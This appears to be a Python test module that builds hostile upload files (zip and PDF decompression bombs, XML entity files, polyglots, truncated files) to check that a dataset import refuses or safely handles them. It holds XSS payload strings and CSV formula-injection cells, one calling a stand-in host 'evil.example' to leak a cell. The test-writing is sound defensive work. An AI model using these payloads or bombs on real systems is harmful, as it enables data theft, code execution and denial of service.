"""A corpus of hostile files, built in code (checks 5-12 and 15 in docs/architecture.md).

Every entry says what a QA person must see: the upload refused with a reason, the
dataset Failed with a reason, or the dataset Ready with its cases (benign oddities such
as a cp1252 CSV). The builders of tests/datasets/files.py are reused where they exist;
what is new here: a DOCX bomb, a PDF whose stream inflates to 1 GB, circular xref
chains, truncated files of every type, AES-encrypted PDFs, polyglots, and CSVs in odd
encodings or with hostile cells. Bombs are built without ever holding the inflated data.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.datasets import files

REFUSED = "refused"  # the upload form says why; nothing is stored, no job starts
FAILED = "failed"  # stored, the job ends Failed with a reason
READY = "ready"  # stored, the job ends Ready with cases

# Text that would act if anything rendered it unescaped: script, event handlers, htmx
# attributes that would fire requests, and template syntax.
XSS_PAYLOADS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-img')\">",
    "<svg onload=alert('xss-svg')>",
    "\"><script>alert('xss-attr')</script>",
    "</textarea><script>alert('xss-textarea')</script>",
    "<a href=\"javascript:alert('xss-href')\">xss-link</a>",
    '<div hx-get="/admin/" hx-trigger="load">xss-hx-get</div>',
    '<form hx-post="/accounts/logout/" hx-trigger="load">xss-hx-post</form>',
    '<div hx-on:htmx:load="alert(\'xss-hx-on\')" hx-trigger="load" hx-get="/agents/?hx-payload=1">xss-hx-on</div>',
    "{{ 7*7 }}",
    "{% now 'Y' %}",
]
# Cells a spreadsheet would run as a formula (OWASP CSV injection).
FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
]


@dataclass(frozen=True)
class Hostile:
    id: str
    filename: str
    build: Callable[[], bytes]
    outcome: str  # REFUSED, FAILED or READY
    says: str = ""  # words the message must contain (REFUSED, FAILED)
    cases: int | None = None  # how many cases (READY)
    contains: tuple[str, ...] = ()  # texts that must arrive verbatim in the cases (READY)
    # READY with warnings: each text must begin one of the dataset's warnings ("file, row N: ..."),
    # so what the import guessed, cut or dropped is never silent (issue 48).
    warns: tuple[str, ...] = ()

    @functools.cached_property
    def data(self) -> bytes:
        return self.build()


# ---- builders ------------------------------------------------------------------------


def zlib_repeat(block: bytes, times: int) -> bytes:
    """A zlib stream of `block` * `times`, built a block at a time without holding the whole.

    After Z_FULL_FLUSH deflate starts afresh, so every later copy of the block compresses
    to the same bytes: compress two, repeat the second. The Adler-32 trailer is computed
    over the real (virtual) data, so this is a genuine, valid stream.
    """
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)[:-4]  # the final block, without the checksum of two copies
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(block, checksum)
    return first + again * (times - 1) + end + struct.pack(">I", checksum)


def raw_pdf(objects: list[bytes], *, root: int = 1, xref_loop: str = "") -> bytes:
    """A PDF from numbered object bodies (1-based), with a real xref table.

    xref_loop: "" (normal), "self" (the trailer's /Prev points at its own xref section) or
    "pair" (two xref sections whose /Prev point at each other), the circular chains of
    CVE-2026-27628.
    """
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"

    def section(prev: int | None) -> bytes:
        # Fixed-width numbers: a section's length does not depend on where /Prev points.
        table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
        trailer = b"trailer\n<< /Size %d /Root %d 0 R" % (len(objects) + 1, root)
        if prev is not None:
            trailer += b" /Prev %010d" % prev
        return table + trailer + b" >>\n"

    start = len(body)
    if xref_loop == "self":
        body += section(start)
    elif xref_loop == "pair":
        second = start + len(section(0))
        body += section(second) + section(start)
    else:
        body += section(None)
    body += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(body)


def _page_pdf(content_stream: bytes, *, filtered: bool = False) -> list[bytes]:
    stream_dict = b"<< /Length %d%s >>" % (len(content_stream), b" /Filter /FlateDecode" if filtered else b"")
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream_dict + b"\nstream\n" + content_stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def _text_stream(lines: list[str]) -> bytes:
    body = [b"BT /F1 12 Tf 50 750 Td 16 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        body.append(b"(" + escaped.encode("latin-1", "replace") + b") '")
    body.append(b"ET")
    return b"\n".join(body)


LABELLED_LINES = [
    "Question: How long is the refund window?",
    "Expected answer: 30 days from purchase.",
    "",
    "Question: When is support open?",
    "Expected answer: 9-17 CET on weekdays.",
]


def pdf_inflating_to_1_gb() -> bytes:
    """One page whose content stream is 1 GB of zeros, about 1 MB on disk."""
    return raw_pdf(_page_pdf(zlib_repeat(b"\x00" * (1 << 20), 1024), filtered=True))


def pdf_with_xref_loop(kind: str) -> bytes:
    return raw_pdf(_page_pdf(_text_stream(LABELLED_LINES)), xref_loop=kind)


def encrypted_pdf(*, user_password: str) -> bytes:
    """AES-256 (pypdf + cryptography). An empty user password opens without asking."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf_bytes([LABELLED_LINES]))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def html_pdf_polyglot() -> bytes:
    """Starts like a PDF, reads like a web page: it must never render as HTML on our origin."""
    html = b"<html><body><script>alert('polyglot')</script><iframe src=/accounts/logout/></iframe></body></html>"
    return b"%PDF-1.4\n" + html + b"\n" + b"%" * 200 + b"\n%%EOF\n"


@functools.cache
def zip_bomb_docx(inflated_mb: int = 1024) -> bytes:
    """A real Word document whose word/document.xml is followed by a part inflating to 1 GB."""
    base = files.docx_bytes([[["Question", "Expected answer"], ["Hi?", "Hello"]]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        info = zipfile.ZipInfo("word/media/padding.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        block = b" " * (1 << 20)
        with target.open(info, "w", force_zip64=True) as bomb:
            bomb._compressor = files._RepeatingDeflate(block)  # the same trick as files.zip_bomb_xlsx
            for _ in range(inflated_mb):
                bomb.write(block)
    return out.getvalue()


def truncated(build: Callable[[], bytes], keep: float = 0.5) -> Callable[[], bytes]:
    def cut() -> bytes:
        data = build()
        return data[: max(1, int(len(data) * keep))]

    return cut


def _qa_xlsx() -> bytes:
    return files.xlsx_bytes({"Cases": [["Question", "Expected answer"], *files.qa_rows(3)]})


def _qa_docx() -> bytes:
    return files.docx_bytes([[["Question", "Expected answer"], *files.qa_rows(3)]])


def _qa_pdf() -> bytes:
    return files.pdf_bytes([LABELLED_LINES * 3])


def _qa_xls() -> bytes:
    return files.xls_bytes({"Cases": [["Question", "Expected answer"], *files.qa_rows(3)]})


def _qa_csv() -> bytes:
    return files.csv_bytes([["Question", "Expected answer"], *files.qa_rows(3)])


def _qa_md() -> bytes:
    return (
        "# Plan\n\n| Question | Expected answer |\n|---|---|\n"
        + "".join(f"| {q} | {a} |\n" for q, a in files.qa_rows(3))
    ).encode()


def xlsx_with_formulas() -> bytes:
    """Real formulas (<f>), one with a cached value an attacker chose, and formula-like text."""
    rows = [["Question", "Expected answer"], *[[cell, "text that looks like a formula"] for cell in FORMULA_CELLS]]
    data = files.xlsx_bytes({"Cases": rows})  # openpyxl stores "=..." strings as formulas
    return files.with_cached_values(data, {"A2": "=HYPERLINK(&quot;http://evil.example&quot;)"})


def xss_rows() -> list[list[str]]:
    return [["Question", "Expected answer", "Context", "Tags", "ID"]] + [
        [f"Q{n} {payload}", f"A{n} {payload}", f"C{n} {payload}", f"tag{n}", f"id-{n}"]
        for n, payload in enumerate(XSS_PAYLOADS, start=1)
    ]


def xss_markdown() -> bytes:
    lines = ["# Plan <script>alert('xss-heading')</script>", ""]
    for n, payload in enumerate(XSS_PAYLOADS, start=1):
        lines += [f"Question: Q{n} {payload}", f"Expected answer: A{n} {payload}", ""]
    return "\n".join(lines).encode()


def big_cell_csv() -> bytes:
    return files.csv_bytes(
        [["Question", "Expected answer"], ["Q " + "x" * 100_000, "A " + "y" * 100_000], ["Short?", "Yes"]]
    )


def md_fifteen_rows() -> bytes:
    """15 rows, drawn with a separator line, a blank line and a row wrapped by hand: 15 cases."""
    rows = [f"| {n} | Question number {n}? | Answer {n} |" for n in range(1, 16)]
    rows[4] = "|---|---|---|\n" + rows[4]
    rows[5] = "\n" + rows[5]
    rows[10] = "| 11 | Question number 11,\nwrapped by hand? | Answer 11 |"
    return ("# Plan\n\n| # | Question | Expected answer |\n|---|---|---|\n" + "\n".join(rows) + "\n").encode()


CP1252 = "Question;Expected answer\nCafé prices?;Crème brûlée costs 5 € — “quoted”\nNaïve question?;Déjà vu\n"

# ---- the corpus -------------------------------------------------------------------------

EMPTY = "The submitted file is empty."
DAMAGED_ZIP = "damaged"
CORPUS: list[Hostile] = [
    # Archives that unpack to far more than they weigh, and XML entity attacks.
    Hostile("zip-bomb-xlsx", "bomb.xlsx", files.zip_bomb_xlsx, REFUSED, "zip bomb"),
    Hostile("zip-bomb-docx", "bomb.docx", zip_bomb_docx, REFUSED, "zip bomb"),
    Hostile(
        "laughs-xlsx", "laughs.xlsx", lambda: files.entity_xlsx(files.LAUGHS_DOCTYPE, "lol9"), REFUSED, "XML entity"
    ),
    Hostile("xxe-xlsx", "xxe.xlsx", lambda: files.entity_xlsx(files.XXE_DOCTYPE, "xxe"), REFUSED, "XML entity"),
    Hostile(
        "laughs-docx", "laughs.docx", lambda: files.entity_docx(files.LAUGHS_DOCTYPE, "lol9"), REFUSED, "XML entity"
    ),
    Hostile("xxe-docx", "xxe.docx", lambda: files.entity_docx(files.XXE_DOCTYPE, "xxe"), REFUSED, "XML entity"),
    # A sheet whose used range claims 16,384 columns by 1,048,576 rows.
    Hostile(
        "stray-cell-xfd1048576",
        "stray.xlsx",
        lambda: files.stray_cell_xlsx([["Question", "Expected answer"], *files.qa_rows(3)]),
        READY,
        cases=3,
    ),
    # PDFs that attack the parser.
    Hostile("pdf-stream-1gb", "inflate.pdf", pdf_inflating_to_1_gb, FAILED, "decompression bomb"),
    Hostile("pdf-xref-prev-self", "loop-self.pdf", lambda: pdf_with_xref_loop("self"), READY, cases=2),
    Hostile("pdf-xref-prev-pair", "loop-pair.pdf", lambda: pdf_with_xref_loop("pair"), READY, cases=2),
    Hostile(
        "pdf-aes-user-password",
        "locked.pdf",
        lambda: encrypted_pdf(user_password="hunter2"),
        FAILED,
        "The PDF is encrypted",
    ),
    Hostile("pdf-aes-owner-password-only", "owner-only.pdf", lambda: encrypted_pdf(user_password=""), READY, cases=2),
    Hostile("pdf-image-only", "scan.pdf", files.image_only_pdf, FAILED, "no text layer"),
    Hostile("pdf-html-polyglot", "polyglot.pdf", html_pdf_polyglot, FAILED, "PDF"),
    # Truncated files of each type.
    Hostile("truncated-xlsx", "cut.xlsx", truncated(_qa_xlsx), REFUSED, DAMAGED_ZIP),
    Hostile("truncated-docx", "cut.docx", truncated(_qa_docx), REFUSED, DAMAGED_ZIP),
    Hostile("truncated-pdf", "cut.pdf", truncated(_qa_pdf), FAILED, "PDF"),
    Hostile("truncated-xls", "cut.xls", truncated(_qa_xls), FAILED, "damaged"),
    Hostile("truncated-csv", "cut.csv", truncated(_qa_csv, 0.6), READY, cases=2),
    Hostile("truncated-md", "cut.md", truncated(_qa_md, 0.7), READY, cases=2),
    # Content that is not what the name says.
    Hostile("exe-as-pdf", "invoice.pdf", files.pe_executable, REFUSED, "not a PDF (it looks like a Windows program)"),
    Hostile("exe-as-xlsx", "plan.xlsx", files.pe_executable, REFUSED, "not an Excel workbook"),
    Hostile("exe-as-docx", "plan.docx", files.pe_executable, REFUSED, "not a Word document"),
    Hostile("exe-as-xls", "plan.xls", files.pe_executable, REFUSED, "not an Excel 97-2003 workbook"),
    Hostile("elf-as-md", "notes.md", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 500, REFUSED, "it is a program"),
    Hostile(
        "html-as-xls",
        "report.xls",
        lambda: b"<html><table><tr><td>Question</td></tr></table></html>",
        REFUSED,
        "not an Excel 97-2003 workbook",
    ),
    Hostile("zip-as-docx", "plan.docx", files.plain_zip, REFUSED, "zip archive, not a Word document"),
    Hostile("pdf-as-xlsx", "plan.xlsx", lambda: files.pdf_bytes([["hello"]]), REFUSED, "it looks like a PDF"),
    # Zero-byte files of each type.
    *[
        Hostile(f"empty-{ext}", f"empty.{ext}", lambda: b"", REFUSED, EMPTY)
        for ext in ("pdf", "xlsx", "xls", "docx", "csv", "md")
    ],
    # CSV: encodings, binary, ragged rows, formulas, markup, huge cells.
    Hostile(
        "csv-cp1252",
        "excel-ansi.csv",
        lambda: CP1252.encode("cp1252"),
        READY,
        cases=2,
        contains=("Café prices?", "Crème brûlée costs 5 € — “quoted”", "Déjà vu"),
        warns=("excel-ansi.csv, lines 2, 3: The file is not UTF-8, so it was read as Windows-1252",),
    ),
    Hostile(
        "csv-utf16",
        "unicode-text.csv",
        lambda: "Question\tExpected answer\nCafé?\tOui\n".encode("utf-16"),
        REFUSED,
        "UTF-16",
    ),
    Hostile(
        "csv-invalid-utf8",
        "broken.csv",
        lambda: b"Question,Expected answer\nBad \xc3\x28 byte?,Yes\nFine?,Yes\n",
        READY,
        cases=2,
        warns=("broken.csv, line 2: ", "broken.csv, row 2: This row had bytes that are not valid"),
    ),
    # A text file with a stray NUL: stripped with a warning (issue 13 sec. 4), never called binary.
    Hostile(
        "csv-nul-bytes",
        "nul.csv",
        lambda: b"Question,Expected answer\nHi\x00?,Yes\n",
        READY,
        cases=1,
        warns=("document-nul.csv, line 2: The file held 1 NUL bytes",),  # NUL is a reserved name on Windows
    ),
    Hostile(
        "csv-ragged-rows",
        "ragged.csv",
        lambda: b"Question,Expected answer\nOne?\nTwo?,Yes,extra,cells\n,\nThree?,Yes\n",
        READY,
        cases=3,
        warns=("ragged.csv, row 2: The row has 1 cells but the header has 2", "ragged.csv, row 3: The row has 4 cells"),
    ),
    Hostile(
        "csv-unclosed-quote",
        "unclosed.csv",
        lambda: b'Question,Expected answer\nFirst?,Yes\n"Never closed?,Yes\n',
        READY,
        cases=2,
        warns=("unclosed.csv, row 3: A quote is never closed",),
    ),
    Hostile(
        "csv-lone-cr",
        "mac-cell.csv",
        lambda: b"Question,Expected answer\nOne?,1\nTwo\rstill two?,2\nThree?,3\n",
        READY,
        cases=3,
        contains=("Two\nstill two?",),
        warns=("mac-cell.csv, row 3: A cell holds a lone carriage return",),
    ),
    Hostile(
        "md-15-rows",
        "plan.md",
        md_fifteen_rows,
        READY,
        cases=15,
        warns=("plan.md, line 11: A blank line inside the table", "plan.md, line 17: The row is written over"),
    ),
    Hostile(
        "xlsx-merged",
        "merged.xlsx",
        lambda: files.xlsx_bytes(
            {"Cases": [["Question", "Expected answer"], ["A?", "Same"], ["B?", None]]}, merges={"Cases": ["B2:B3"]}
        ),
        READY,
        cases=2,
        warns=("merged.xlsx, Cases row 3: The “Expected answer” value comes from the merged cells B2:B3",),
    ),
    Hostile(
        "pdf-blank-page",
        "blank-page.pdf",
        lambda: files.pdf_bytes([LABELLED_LINES, []]),
        READY,
        cases=2,
        warns=("blank-page.pdf, page 2: No text could be read",),
    ),
    Hostile(
        "csv-formula-injection",
        "formulas.csv",
        lambda: files.csv_bytes([["Question", "Expected answer"], *[[cell, cell] for cell in FORMULA_CELLS]]),
        READY,
        cases=len(FORMULA_CELLS),
        contains=(FORMULA_CELLS[0], FORMULA_CELLS[1]),
    ),
    Hostile(
        "csv-xss",
        "xss.csv",
        lambda: files.csv_bytes(xss_rows()),
        READY,
        cases=len(XSS_PAYLOADS),
        contains=tuple(XSS_PAYLOADS),
    ),
    Hostile("csv-100kb-cells", "big.csv", big_cell_csv, READY, cases=2),
    # The same payloads in every other format.
    Hostile(
        "xlsx-formulas",
        "formulas.xlsx",
        xlsx_with_formulas,
        READY,
        cases=None,
        warns=("formulas.xlsx, Cases row 2: The “Question” cell is a formula (=HYPERLINK(",),
    ),
    Hostile(
        "xlsx-xss",
        "xss.xlsx",
        lambda: files.xlsx_bytes({"<img src=x onerror=alert(1)>": xss_rows()}),
        READY,
        cases=len(XSS_PAYLOADS),
        contains=tuple(XSS_PAYLOADS),
    ),
    Hostile(
        "docx-xss",
        "xss.docx",
        lambda: files.docx_bytes(["<b>intro</b> {{ 7*7 }}", xss_rows()]),
        READY,
        cases=len(XSS_PAYLOADS),
        contains=tuple(XSS_PAYLOADS),
    ),
    Hostile("md-xss", "xss.md", xss_markdown, READY, cases=len(XSS_PAYLOADS), contains=tuple(XSS_PAYLOADS)),
    Hostile(
        "xlsx-100kb-cells",
        "big.xlsx",
        lambda: files.xlsx_bytes(
            {
                "Cases": [
                    ["Question", "Expected answer"],
                    ["Q " + "x" * 100_000, "A " + "y" * 100_000],
                    ["Short?", "Yes"],
                ]
            }
        ),
        READY,
        cases=2,
    ),
]
